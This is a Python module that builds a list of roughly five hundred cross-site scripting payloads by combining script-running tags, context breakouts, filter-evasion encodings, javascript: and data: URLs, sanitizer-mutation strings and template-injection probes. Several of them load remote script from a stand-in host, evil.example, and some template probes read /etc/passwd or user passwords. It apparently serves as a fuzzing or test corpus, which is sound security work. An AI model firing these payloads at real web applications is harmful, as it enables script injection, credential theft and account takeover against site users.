"""Five hundred ways to smuggle a script into words: made by rule, so that each idea meets each disguise."""

from collections.abc import Iterator
from itertools import chain, product

RUN = "alert(1)"
# Elements that run a script by themselves once they stand in a page.
SELF_RUNNING = [
    "<script>{run}</script>", "<img src=x onerror={run}>", "<svg onload={run}>", "<body onload={run}>",
    "<iframe onload={run}>", "<video><source onerror={run}>", "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>", "<object data=x onerror={run}>", "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>", "<marquee onstart={run}>", "<audio src=x onerror={run}>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>", "<math><mi xlink:href=x onclick={run}>",
]  # fmt: skip
# Where the words may have been put, and how to get out of there.
BREAKOUTS = [
    "", '">', "'>", "</title>", "</textarea>", "</script>", "</style>", "--></noscript>", "]]>", "</select></option>",
    "</svg></math>", "`>", "%22%3E", "\\\">", "&quot;>", "</template>",
]  # fmt: skip
# How a filter of words is fooled.
DISGUISES = [
    str.upper,
    str.swapcase,
    lambda text: text.replace(" on", "/on"),
    lambda text: text.replace(" on", "\n\ton"),
    lambda text: text.replace("alert", "&#97;lert"),
    lambda text: text.replace("alert", "\\u0061lert"),
    lambda text: text.replace("(1)", "`1`"),
    lambda text: text.replace("alert(1)", "top['al'+'ert'](1)"),
    lambda text: text.replace("<", "<​"),  # a space without width
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: "‮" + text,  # from right to left
]
ADDRESSES = [
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "java&#10;script:{run}", "&#x6A;avascript:{run}",
    "javascript&colon;{run}", " javascript:{run}", "ｊavascript:{run}", "data:text/html,<script>{run}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "//evil.example/x.js", "vbscript:{run}",
]  # fmt: skip
LOADERS = [
    "{url}", "<a href='{url}'>x</a>", "<iframe src='{url}'>", "<form action='{url}'><button>x", "<embed src='{url}'>",
    "<base href='{url}'>", "<meta http-equiv=refresh content='0;url={url}'>", "<script src='{url}'></script>",
    "<svg><use href='{url}#x'/></svg>", "<svg><a xlink:href='{url}'><text>x", "<link rel=stylesheet href='{url}'>",
]  # fmt: skip
# What sanitisers have mended into scripts: parsed once it is harmless, parsed again it is not.
MUTATIONS = [
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={run}&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={run}>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror={run}>--></style>",
    "<table><td><svg><desc><td></desc><script>{run}</script>", "<xmp><p title='</xmp><img src=x onerror={run}>'>",
    "<listing>&lt;img onerror={run} src=x&gt;</listing>",
    "<select><template shadowrootmode=open><script>{run}</script>",
    "<!--><img src=x onerror={run}>-->", "<![CDATA[><img src=x onerror={run}>]]>", "<?xml ><img src=x onerror={run}>?>",
    "<img src='x`'onerror={run}>", "<<script>{run}//<</script>", "<scr<script>ipt>{run}</scr</script>ipt>",
    "<iframe srcdoc='&lt;script&gt;{run}&lt;/script&gt;'>", "<div style='width:expression({run})'>",
    "<div style=\"background:url('javascript:{run}')\">", "<style>@import '//evil.example/x.css';</style>",
    "}}*{background:url(//evil.example/x)}", "<svg><set attributeName=onmouseover to={run}>",
]  # fmt: skip
# Words that a template, a script or a reader of JSON would take for its own.
GRAMMARS = [
    "{{ 7*7 }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{ request.user.password }}", "${{run}}",
    "#{{run}}", "<%= {run} %>", "{{constructor.constructor('{run}')()}}", "{{#each}}{run}", "*{{run}}",
    "';{run}//", '";{run}//', "\\';{run}//", "\u2028{run}//", "</script><script>{run}//", '"}]);{run}//',
    "\\u003cscript\\u003e{run}",
    "<div hx-get=/settings/ hx-trigger=load hx-on::load={run}>", "<div data-hx-on:htmx:load={run}>",
    "<b hx-vals='js:x:{run}'>", "<a class=command data-go=a href=javascript:{run}>", "<dialog open onclose={run}>",
    "<template id=unanswered><img src=x onerror={run}></template>", "jaVasCript:/*-/*`/*'/*\"/**/({run})//</style>",
    "x' onfocus={run} autofocus tabindex=1 '", 'x" onmouseover={run} style="position:fixed;inset:0',
]  # fmt: skip


def _all() -> Iterator[str]:
    yield from (breakout + tag.replace("{run}", RUN) for tag, breakout in product(SELF_RUNNING, BREAKOUTS))
    yield from (text.replace("{run}", RUN) for text in chain(MUTATIONS, GRAMMARS))
    for loader, address in product(LOADERS, ADDRESSES):
        yield loader.replace("{url}", address.replace("{run}", RUN))
    yield from (disguise(tag.replace("{run}", RUN)) for tag, disguise in product(SELF_RUNNING, DISGUISES))


PAYLOADS = list(dict.fromkeys(_all()))
